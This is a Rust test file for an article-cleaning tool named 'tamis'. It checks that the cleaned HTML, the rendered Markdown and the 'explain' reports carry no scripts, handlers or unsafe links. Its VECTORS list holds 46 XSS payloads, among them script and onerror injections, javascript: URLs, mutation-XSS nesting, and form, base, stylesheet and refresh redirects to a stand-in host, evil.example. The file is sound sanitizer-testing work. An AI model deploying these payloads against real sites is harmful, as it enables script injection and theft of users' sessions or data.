//! What a page writes stays text: in HTML, in Markdown as a renderer shows it, in the report of `tamis explain`.

use std::process::Command;

use tamis::format::Format;
use tamis::parse::{Dom, Limits, parse};
use tamis::record::Record;

use super::readers::{ADDRESS, CLEANER};

/// Ways to smuggle a script, a style or a form into what is shown.
const VECTORS: [&str; 46] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><a href=javascript:alert(1)>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<a href=javascript:alert(1)>lien</a>",
    "<a href=' javascript:alert(1)'>lien</a>",
    "<a href='java\tscript:alert(1)'>lien</a>",
    "<a href='java\nscript:alert(1)'>lien</a>",
    "<a href='&#106;avascript:alert(1)'>lien</a>",
    "<a href='&#x01;javascript:alert(1)'>lien</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>lien</a>",
    "<a href=vbscript:msgbox(1)>lien</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>lien</a>",
    "<a href='https://a.example/\" onmouseover=\"alert(1)'>lien</a>",
    "<a href='https://a.example/> <img src=x onerror=alert(1)>'>lien</a>",
    "<a href='https://a.example/)[x](javascript:alert(1)'>lien</a>",
    "<a href='https://a.example/>)<script>alert(1)</script>'>lien</a>",
    "<a href='https://a.example/\\>'>lien</a>",
    "<a onclick=alert(1) href=/x style='position:fixed'>lien</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=q><button>OK</button></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "[lien](javascript:alert(1)) ![x](javascript:alert(1)) &lt;javascript:alert(1)&gt;",
    "\n[x]: javascript:alert(1)\n[lien][x]",
    "<code>`&lt;script&gt;alert(1)&lt;/script&gt;`</code> ``` <pre>```\n&lt;script&gt;</pre>",
    "<b>*</b>_&lt;i onclick=alert(1)&gt;_\\&lt;u&gt; {{7*7}} ${7*7} --&gt;",
];

/// All that a rendered article is made of.
const ALLOWED: [&str; 32] = [
    "html",
    "head",
    "body",
    "meta",
    "title",
    "link",
    "article",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "table",
    "thead",
    "tbody",
    "tr",
    "td",
    "th",
    "a",
    "strong",
    "em",
    "br",
    "hr",
    "img",
];

/// What is wrong with a document that is shown to people, if anything.
fn fault(dom: &Dom) -> Option<String> {
    dom.descendants(dom.document()).filter(|node| !dom.tag(*node).is_empty()).find_map(|node| {
        let tag = dom.tag(node);
        if !ALLOWED.contains(&tag) {
            return Some(format!("<{tag}>"));
        }
        dom.attributes(node).find_map(|(name, value)| {
            let harmless = match name {
                "href" | "src" => is_harmless(value),
                "http-equiv" => false,
                "style" => tag.starts_with('t'), // the alignment of columns
                _ => !name.starts_with("on"),
            };
            (!harmless).then(|| format!("<{tag} {name}={value:?}>"))
        })
    })
}

/// By the rules of browsers: tabs and line breaks in an address do not count, nor controls before it.
fn is_harmless(address: &str) -> bool {
    let plain: String = address.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let plain = plain.trim_start_matches(|c: char| c <= ' ').to_lowercase();
    let scheme = plain.split(['/', '?', '#']).next().and_then(|start| start.split_once(':'));
    scheme.is_none_or(|(scheme, _)| matches!(scheme, "http" | "https" | "mailto"))
}

fn dom(html: &str) -> Dom {
    parse(html, &Limits::default()).expect("a small page")
}

/// The vector in every place that reaches the output: prose, a heading, an item, a cell, a quotation, the metadata.
fn page(vector: &str) -> String {
    let prose = "Le préfet a signé hier l’arrêté qui interdit l’arrosage des jardins dans douze communes du département.";
    let quoted = vector.replace('"', "&quot;");
    format!(
        "<html lang=\"{quoted}\"><head><title>{vector}</title><meta name=author content=\"{quoted}\">\
         <meta property=og:title content=\"{quoted}\"><link rel=canonical href=\"{quoted}\"></head><body><article>\
         <h1>{vector}</h1><p>{prose} {prose}</p><p>{prose} {vector} {prose}</p><h2>Un titre {vector}</h2><p>{prose}</p>\
         <ul><li>{prose} {vector}</li><li>{prose}</li></ul><blockquote><p>{prose} {vector}</p></blockquote>\
         <table><tr><th>{vector}</th><td>{prose} {vector}</td></tr><tr><td>{prose}</td><td>x</td></tr></table>\
         <p>{prose} {vector}</p><p>{prose} {prose}</p></article></body></html>"
    )
}

fn records() -> impl Iterator<Item = (&'static str, Record)> {
    VECTORS.into_iter().flat_map(|vector| {
        let cleaned = [None, Some(&*ADDRESS)].map(|url| (vector, Record::of(vector, CLEANER.clean(&page(vector), url))));
        let dirty = format!("# {vector}\n\nUne phrase assez longue pour être du texte, avec {vector} en son milieu.\n\n- {vector}\n");
        cleaned.into_iter().chain([(vector, Record::of(vector, CLEANER.clean_text(&dirty)))])
    })
}

#[test]
fn html_holds_only_harmless_elements() {
    let mut shown = 0;
    for (vector, record) in records() {
        let html = Format::Html.render(&record);
        assert_eq!(fault(&dom(&html)), None, "of {vector}\n{html}");
        shown += usize::from(!html.is_empty());
    }
    assert!(shown > 2 * VECTORS.len(), "{shown} articles");
}

#[test]
fn markdown_is_harmless_when_it_is_rendered() {
    for (vector, record) in records() {
        let markdown = Format::Md.render(&record);
        let body = markdown.splitn(3, "---\n").last().unwrap_or_default();
        let mut html = String::new();
        let parser = pulldown_cmark::Parser::new_ext(body, pulldown_cmark::Options::ENABLE_TABLES);
        pulldown_cmark::html::push_html(&mut html, parser);
        assert_eq!(fault(&dom(&html)), None, "of {vector}\n{markdown}\n{html}");
    }
}

#[test]
fn a_report_of_explain_runs_nothing_of_the_page() {
    let folder = tempfile::tempdir().expect("a folder");
    let (saved, report) =
        (folder.path().join("<img src=x onerror=alert(1)>.html"), folder.path().join("report.html"));
    let explain = |content: &str| {
        std::fs::write(&saved, content).expect("a page");
        let mut command = Command::new(env!("CARGO_BIN_EXE_tamis"));
        let run = command.arg("explain").arg(&saved).arg("--html").arg(&report).output().expect("it runs");
        assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
        let dom = dom(&std::fs::read_to_string(&report).expect("a report"));
        let of_us = |node: &_| matches!(dom.tag(*node), "li" | "option" | "b" | "span" | "code" | "p");
        let tags: Vec<String> = dom
            .descendants(dom.document())
            .filter(|node| !of_us(node))
            .map(|node| dom.tag(node).to_owned())
            .collect();
        tags
    };
    let elements = |tags: Vec<String>| tags.into_iter().filter(|tag| !tag.is_empty()).collect::<Vec<_>>();
    let plain = elements(explain(&page("rien")));
    let all = page(&VECTORS.concat());
    assert_eq!(elements(explain(&all)), plain);
    for vector in VECTORS.iter().step_by(9) {
        assert_eq!(elements(explain(&page(vector))), plain, "{vector}");
    }
}
